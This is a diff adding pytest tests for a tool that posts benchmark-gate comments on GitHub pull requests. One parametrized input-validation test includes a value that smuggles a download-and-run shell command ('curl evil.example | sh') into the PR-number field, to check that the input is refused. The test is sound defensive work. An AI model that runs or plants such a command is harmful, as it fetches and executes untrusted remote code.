@@ -12,9 +12,11 @@ from pathlib import Path
 
 import pytest
 
+from tests.support.commands import run_tool
 from tests.support.gate_verdict import COUNT, ROW, row, verdict
+from tests.support.gate_verdict import verdict as verdict_of
 from tests.support.github_standin import github_standin
-from tests.unit.test_github_tools import run_tool
+from tools._lib.verdict.markdown import VERDICTS
 
 SHA = "a" * 40
 
@@ -218,4 +220,51 @@ def test_a_pr_number_that_is_not_ascii_digits_is_bad_input(standin, tmp_path, nu
     assert done.returncode == 4, done.stdout + done.stderr
     (line,) = done.stderr.strip().splitlines()
     assert "PR number is not a number" in line
+    assert standin.comments == {}
+
+
+def gate_artifact(tmp_path: Path, number, head_sha: str = SHA, status: int = 0) -> Path:
+    folder = tmp_path / "gate-summary"
+    folder.mkdir(exist_ok=True)
+    (folder / "pr.json").write_text(json.dumps({"number": number, "head_sha": head_sha}))
+    (folder / "verdict.json").write_text(json.dumps(verdict_of(status=status)))
+    return folder
+
+
+def test_the_gate_comment_is_created_once_then_edited(standin, tmp_path):
+    standin.pulls[7] = {"number": 7, "head": {"sha": SHA}}
+    env = standin.env(RUN_HEAD_SHA=SHA)
+    first, _ = run_tool("pr_comment", str(gate_artifact(tmp_path, 7)), env=env, tmp_path=tmp_path)
+    assert first.returncode == 0 and "commented on #7" in first.stdout, first.stderr
+    second, _ = run_tool(
+        "pr_comment", str(gate_artifact(tmp_path, 7, status=2)), env=env, tmp_path=tmp_path
+    )
+    assert second.returncode == 0 and "edited the comment on #7" in second.stdout
+    (comment,) = standin.comments.values()
+    assert comment["issue"] == 7 and f"## Benchmarks: {VERDICTS[2]}" in comment["body"]
+    assert len(standin.calls("POST", r".*/issues/7/comments")) == 1
+
+
+@pytest.mark.parametrize(
+    ("number", "head_sha", "pull_sha", "line"),
+    [
+        ("7; curl evil.example | sh", SHA, SHA, "PR number is not a number"),
+        (True, SHA, SHA, "PR number is not a number"),
+        (7, "b" * 40, SHA, "not the run's " + SHA),
+        (7, SHA, "c" * 40, "is not at the run's commit"),
+    ],
+)
+def test_a_malformed_or_mismatched_artifact_is_refused(
+    standin, tmp_path, number, head_sha, pull_sha, line
+):
+    standin.pulls[7] = {"number": 7, "head": {"sha": pull_sha}}
+    done, _ = run_tool(
+        "pr_comment",
+        str(gate_artifact(tmp_path, number, head_sha)),
+        env=standin.env(RUN_HEAD_SHA=SHA),
+        tmp_path=tmp_path,
+    )
+    assert done.returncode == 4, done.stdout + done.stderr
+    (printed,) = done.stderr.strip().splitlines()
+    assert line in printed
     assert standin.comments == {}
